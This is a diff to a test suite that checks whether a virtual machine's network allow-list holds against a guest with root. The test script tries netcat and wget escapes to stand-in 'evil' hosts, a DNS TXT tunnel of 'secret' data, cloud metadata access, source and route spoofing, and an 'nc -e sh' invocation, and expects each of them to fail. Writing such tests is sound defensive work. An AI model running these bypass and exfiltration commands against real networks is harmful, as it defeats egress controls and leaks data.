@@ -4,8 +4,9 @@ import { helloOf } from "../../src/net/policy/first-bytes.fixture.ts";
 import type { Home } from "../support/home.ts";
 import { SMALL } from "../support/machines.ts";
 import { OrdinaryMachines } from "../support/ordinary.ts";
-import { CLOSED, EVIL, INNER, OUTER } from "../support/outside/addresses.ts";
+import { CLOSED, EVIL, EVIL2, EVIL3, INNER, OUTER } from "../support/outside/addresses.ts";
 import { useOutside } from "../support/outside/outside.ts";
+import { Talking } from "../support/process.ts";
 import { onBoth, onQemu } from "../support/register.ts";
 
 /** What a guest with root tries to get around a list, on every way on which a machine is started. */
@@ -21,21 +22,20 @@ beforeAll(async () => {
   hello = { good: await base64("allowed.test"), evil: await base64("evil.test") };
 });
 
-/** How many lines a script prints. */
-let tried = 0;
-
-/** Each line: what was tried, and what came of it. */
-function script(): string {
+/** What is tried, and by which commands: the next group when all of one are through. */
+function groups(): readonly Record<string, string>[] {
   const raw = (address: string, port: number, text: string) =>
     `printf '${text}' | nc -w 3 ${address} ${port} | tail -n 1`;
   const request = (host: string) => `GET / HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n`;
   const tls = (address: string, base64: string) =>
     `echo ${base64} | base64 -d | nc -w 3 ${address} 443 | tail -n 1`;
   const get = (url: string) => `wget -T 3 -qO- ${url}`;
-  const udp = (address: string, port: number) => `echo hi | timeout 2 nc -u -w 1 ${address} ${port}`;
-  const tries: Record<string, string> = {
-    [EARLY]: get(`http://${OUTER}:8080/`),
-    "the allowed name": get("http://allowed.test/"),
+  // Ends with the answer or the refusal: a limit would be either too short or waited for.
+  const udp = (address: string, port: number) =>
+    `timeout 30 nc -u ${address} ${port} -e sh -c 'echo hi; head -n 1 >&9' 9>&1`;
+  const early = { [EARLY]: get(`http://${OUTER}:8080/`) };
+  const first = { "the allowed name": get("http://allowed.test/") };
+  const together = {
     "the same on another port": get("http://allowed.test:8080/"),
     "its address": get(`http://${OUTER}:8080/`),
     "its UDP": udp(OUTER, 5000),
@@ -63,23 +63,34 @@ function script(): string {
     "DNS over TLS": get(`http://${EVIL}:853/`),
     "a tunnel of questions": "nslookup -type=txt secret.data.evil.test | grep text",
     "a name that leads inside": get("http://rebind.allowed.test:8080/"),
-    "where it leads": get(`http://${INNER}:8080/`),
     metadata: get(`http://${CLOSED}/`),
     "the host's loopback": get("http://100.96.0.1:8080/"),
     "the host by its name": get("http://host.smolvm.internal:8080/"),
     "the gateway as a proxy": raw("100.96.0.1", 8080, request("evil.test")),
     "a mapped address": `nc -w 2 ::ffff:${INNER} 8080 </dev/null && echo open`,
     "a NAT64 address": "nc -w 2 64:ff9b::a09:909 8080 </dev/null && echo open",
-    "another source": `ip addr add 192.0.2.9/32 dev eth0; ip route add ${OUTER}/32 via 100.96.0.1 src 192.0.2.9; ${get(`http://${OUTER}:8080/`)}; ip route del ${OUTER}/32`,
-    "a route of its own": `ip route add ${EVIL}/32 dev eth0; ${get(`http://${EVIL}:8080/`)}`,
-    "a neighbour of its own": `ip neigh add ${EVIL} lladdr 02:53:4d:00:00:01 dev eth0; ${get(`http://${EVIL}:8080/`)}`,
     ping: `ping -c 1 -W 2 ${EVIL} | grep 'bytes from'`,
+    "another source": `ip addr add 192.0.2.9/32 dev eth0; echo | nc -w 3 -s 192.0.2.9 ${OUTER} 8080`,
+    "a route of its own": `ip route add ${EVIL2}/32 dev eth0; ${get(`http://${EVIL2}:8080/`)}`,
+    "a neighbour of its own": `ip route add ${EVIL3}/32 dev eth0; ip neigh add ${EVIL3} lladdr 02:53:4d:00:00:01 dev eth0; ${get(`http://${EVIL3}:8080/`)}`,
   };
-  tried = Object.keys(tries).length;
-  const lines = Object.entries(tries).map(
-    ([name, command]) => `r=$({ ${command}; } 2>/dev/null); r=$(echo $r); echo "${name}: \${r:-no}"`,
-  );
-  return [`GOOD=${hello.good}`, `EVIL=${hello.evil}`, ...lines].join("\n");
+  // Its name has been asked for by now.
+  const last = { "where it leads": get(`http://${INNER}:8080/`) };
+  return [early, first, together, last];
+}
+
+const tried = () => groups().flatMap((group) => Object.keys(group));
+
+/** Prints what was tried, and what came of it, a line each. */
+function script(): string {
+  let count = 0;
+  const start = (command: string) => `{ ${command}; } >$d/${count++} 2>/dev/null &`;
+  return [
+    ...[`GOOD=${hello.good}`, `EVIL=${hello.evil}`, "d=$(mktemp -d)"],
+    ...groups().flatMap((group) => [...Object.values(group).map(start), "wait"]),
+    ...tried().map((name, index) => `r=$(cat $d/${index}); r=$(echo $r); echo "${name}: \${r:-no}"`),
+    "echo end",
+  ].join("\n");
 }
 
 const OPEN = {
@@ -100,11 +111,10 @@ const EARLY = "address, before its name was asked for";
  * @param again the machine has asked for the names before
  */
 function check(output: string, again = false): void {
-  const results = output
-    .trim()
-    .split("\n")
-    .map((line) => line.split(/: (.*)/s, 2) as [string, string]);
-  expect(results.length).toBe(tried);
+  const lines = output.trim().split("\n");
+  expect(lines.pop()).toBe("end");
+  const results = lines.map((line) => line.split(/: (.*)/s, 2) as [string, string]);
+  expect(results.map(([name]) => name)).toEqual(tried());
   const open = results.filter(([name, result]) => result !== "no" && !(again && name === EARLY));
   expect(Object.fromEntries(open)).toEqual(OPEN);
   expect(outside.questions.filter((question) => /evil|secret|leaked/.test(question))).toEqual([]);
@@ -112,7 +122,8 @@ function check(output: string, again = false): void {
 
 const LIMIT = 180;
 
-describe("a list of names holds against a guest with root", () => {
+// What waits in a guest for an answer that never comes leaves the processor to the others.
+describe.concurrent("a list of names holds against a guest with root", () => {
   const inOneCommand = async (home: Home) => {
     const { output, exitCode, stderr } = await home.run(["sh", "-c", script()], {
       options: LIST,
@@ -137,19 +148,38 @@ describe("a list of names holds against a guest with root", () => {
   );
 
   onQemu(
-    "in a machine that was made and started, at its next start, and in its copy",
+    "in a machine that was made and started, at its next start, in its copy; with its image, which the cache has, from a Smolfile, from that one's pack, and in a machine made of the pack",
     async () => {
+      const lasting = async (name: string) => {
+        await outside.ok("start", name);
+        check(await outside.sh(name, script()));
+        await outside.ok("stop", name);
+      };
+      const once = async (...words: string[]) => {
+        const behind = ["-q", ...SMALL, ...DNS, "--", "sh", "-c", script()];
+        const { output, exitCode, stderr } = await outside.smolvm([...words, ...behind], { seconds: LIMIT });
+        expect({ exitCode, stderr }).toEqual({ exitCode: 0, stderr: "" });
+        check(output);
+      };
       await outside.create("box", ...LIST);
-      await outside.ok("start", "box");
-      check(await outside.sh("box", script()));
-      await outside.ok("stop", "box");
+      await lasting("box");
       await outside.ok("clone", "box", "copy");
-      await outside.ok("start", "box");
-      check(await outside.sh("box", script()));
-      await outside.ok("delete", "-f", "box");
-      await outside.ok("start", "copy");
-      check(await outside.sh("copy", script()));
-      await outside.ok("delete", "-f", "copy");
+      await outside.ok("commit", "box", "policy-test:box");
+      const [smolfile, pack] = [`${outside.path}/Smolfile`, `${outside.path}/app.smolmachine`];
+      const list = ["net = true", "[network]", 'allow_hosts = ["allowed.test"]'];
+      writeFileSync(smolfile, ['image = "policy-test:box"', ...list, ""].join("\n"));
+      const packed = await outside.smolvm([
+        ...["pack", "create", "-s", smolfile, "--no-runtime", "-o", `${outside.path}/app`],
+      ]);
+      expect(packed).toMatchObject({ exitCode: 0 });
+      await outside.create("packed", "--from", pack, ...DNS);
+      await Promise.all([
+        ...["box", "copy", "packed"].map(lasting),
+        once("machine", "run", "-s", smolfile),
+        once("pack", "run", "--sidecar", pack),
+      ]);
+      await outside.ok("delete", "-f", "box", "copy", "packed");
+      await outside.smolvm(["images", "rm", "policy-test:box"]);
     },
     LIMIT * 2,
   );
@@ -175,7 +205,7 @@ describe("a list of names holds against a guest with root", () => {
       );
       check(await outside.sh("job", "cat /root/init.txt"));
       const finished =
-        "while ! ls /root/*-*.txt >/dev/null 2>&1 || ! grep -q '^ping' /root/$(cat /proc/sys/kernel/random/boot_id).txt; do sleep 1; done; cat /root/$(cat /proc/sys/kernel/random/boot_id).txt";
+        "while ! ls /root/*-*.txt >/dev/null 2>&1 || ! grep -q '^end' /root/$(cat /proc/sys/kernel/random/boot_id).txt; do sleep 1; done; cat /root/$(cat /proc/sys/kernel/random/boot_id).txt";
       check(await outside.sh("job", finished), true);
       await outside.powerCut("job");
       check(await outside.sh("job", finished), true);
@@ -185,15 +215,31 @@ describe("a list of names holds against a guest with root", () => {
   );
 
   onQemu(
-    "from a Smolfile",
+    "in a machine that was made, started and used over HTTP",
     async () => {
-      const path = `${outside.path}/Smolfile`;
-      writeFileSync(path, 'net = true\n[network]\nallow_hosts = ["allowed.test"]\n');
-      const { output } = await outside.run(["sh", "-c", script()], {
-        options: ["-s", path, ...DNS],
-        seconds: LIMIT,
-      });
-      check(output);
+      const server = new Talking(outside.start(["serve", "start"]));
+      expect(await server.line()).toContain("listening on");
+      const post = async (path: string, json: object) => {
+        const answer = await fetch(`http://localhost/api/v1/machines${path}`, {
+          method: "POST",
+          headers: { "content-type": "application/json" },
+          body: JSON.stringify(json),
+          unix: `${outside.env.XDG_RUNTIME_DIR}/smolvm.sock`,
+        });
+        if (!answer.ok) throw new Error(`${path}: ${answer.status} ${await answer.text()}`);
+        return await answer.json();
+      };
+      const network = { dns: ["127.0.0.1:5353"], allowedHosts: ["allowed.test"] };
+      try {
+        await post("", { name: "served", cpus: 1, memoryMb: 256, ...network });
+        await post("/served/start", {});
+        const answer = await post("/served/exec", { command: ["sh", "-c", script()] });
+        check((answer as { stdout: string }).stdout);
+        await outside.ok("delete", "-f", "served");
+      } finally {
+        server.child.kill();
+        await server.child.exited;
+      }
     },
     LIMIT,
   );
